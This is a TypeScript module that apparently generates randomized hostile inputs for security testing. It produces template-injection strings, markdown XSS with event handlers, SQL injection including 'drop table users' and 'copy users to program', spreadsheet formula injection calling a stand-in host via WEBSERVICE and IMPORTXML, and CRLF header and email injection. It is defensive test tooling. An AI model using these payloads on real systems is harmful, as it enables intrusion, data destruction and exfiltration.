import { pickOne } from '#server/platform/random.ts'
import { element, RAN_HOST, type Template, url } from './hostile-markup.ts'

/** Placeholders of templates, formatters and `replace`, and placeholders of the project's own HTML document. */
export const template: Template = (n, random) =>
  pickOne(
    [
      `{{__ran(${n})}}`,
      `{{constructor.constructor('__ran(${n})')()}}`,
      `\${__ran(${n})}`,
      `#{__ran(${n})}`,
      `<%= __ran(${n}) %>`,
      `{%raw%}__ran(${n})`,
      `[[\${__ran(${n})}]]`,
      `@(__ran(${n}))`,
      `{{slogan}}{{points_table:x${n}}}`,
      `$&$'$\`${n}`,
      `$$$1$<x>${n}`,
      `%s%d%n%${n}$s`,
      `<!--head--><!--body-->${n}`,
      `</head></body>${n}`,
      `__proto__[ran]=${n}`,
      `constructor.prototype.ran=${n}`,
    ],
    random,
  )

export const markdown: Template = (n, random) => {
  const [link, foreign] = [url(n, random), `//${RAN_HOST}/${n}`]
  return pickOne(
    [
      `[x](${link})`,
      `[x](<${link}>)`,
      `![x](${link})`,
      `![x](${foreign})`,
      `![x](/\\${RAN_HOST}/${n})`,
      `![x](x${n} "y\\" ran onerror=__ran(${n}) z=")`,
      `[x](https:${foreign} 'y" ran onclick=__ran(${n})')`,
      `<${link}>`,
      `<https:${foreign}"ran/onclick=__ran(${n})>`,
      `[x]\n\n[x]: ${link}`,
      `![x][y]\n\n[y]: ${foreign} "z"`,
      `[^1]\n\n[^1]: ${element(n, random)}`,
      `- [ ] ${element(n, random)}`,
      `|x|\n|-|\n|${element(n, random)}|`,
      `\`\`\`html" ran onload=__ran(${n})\n${element(n, random)}\n\`\`\``,
      `~~**${element(n, random)}**~~`,
      `# ${element(n, random)}`,
      `www.${RAN_HOST}/${n}"ran/onclick=__ran(1)`,
      `x${n}@${RAN_HOST}'ran'onclick='__ran(1)`,
      `[a](#x" ran onfocus=__ran(${n}) ")`,
      `\\<script ran>__ran(${n})\\</script>`,
      `<div ran\n\nonclick=__ran(${n})>x</div>`,
    ],
    random,
  )
}

export const query: Template = (n, random) => {
  const quote = pickOne(["'", '"', "\\'", "''", '$$', '`', "%'", "')"], random)
  return (
    quote +
    pickOne(
      [
        `; drop table users; -- ${n}`,
        ` or ${n}=${n} --`,
        ` or '${n}'='${n}`,
        ` union select ${n}, null, password from users --`,
        `||pg_sleep(9)||'${n}`,
        `; select pg_sleep(9) /* ${n}`,
        `; copy users to program 'touch ${n}' --`,
        `) or ($1 = ${n}) --`,
        `::int + :name + ? + $${n}`,
        ` and 1=(select count(*) from users) -- ${n}`,
        `E'\\047' U&'\\0027' ${n}`,
        `_%\\%${n}`,
        `\\`.repeat(3) + n,
      ],
      random,
    )
  )
}

export const formula: Template = (n, random) => {
  const start = pickOne(['=', '+', '-', '@', '\t=', '\r=', '\n=', '"=', ',=', ';=', '＝', ' ='], random)
  return (
    start +
    pickOne(
      [
        `${n}+1`,
        `cmd|' /C calc ${n}'!A0`,
        `HYPERLINK("https://${RAN_HOST}/${n}","x")`,
        `IMPORTXML(CONCAT("https://${RAN_HOST}/",A1),"${n}")`,
        `WEBSERVICE("https://${RAN_HOST}/${n}")`,
        `SUM(${n},1)*cmd|'x'!A0`,
      ],
      random,
    )
  )
}

/** Line breaks that would inject a header or a line into an email, a reply, a log or a calendar. */
export const header: Template = (n, random) => {
  const end = pickOne(
    ['\r\n', '\n', '\r', '\u2028', '\u0085', '%0d%0a', '\\r\\n', '\r\n\r\n', '\v', '\f'],
    random,
  )
  return `x${n}${end}${pickOne(
    [
      `Bcc: ${n}@${RAN_HOST}`,
      `Subject: ${n}`,
      `Set-Cookie: session=${n}`,
      `Location: https://${RAN_HOST}/${n}`,
      `Content-Type: text/html\r\n\r\n${element(n, random)}`,
      `.\r\nMAIL FROM:<${n}@${RAN_HOST}>`,
      `BEGIN:VEVENT\r\nUID:${n}`,
      `ATTENDEE:mailto:${n}@${RAN_HOST}`,
      `" <${n}@${RAN_HOST}>, x`,
      `=?utf-8?q?=0aBcc:_${n}=40${RAN_HOST}?=`,
      `\u001b]0;${n}\u0007\u001b[2J`,
    ],
    random,
  )}`
}
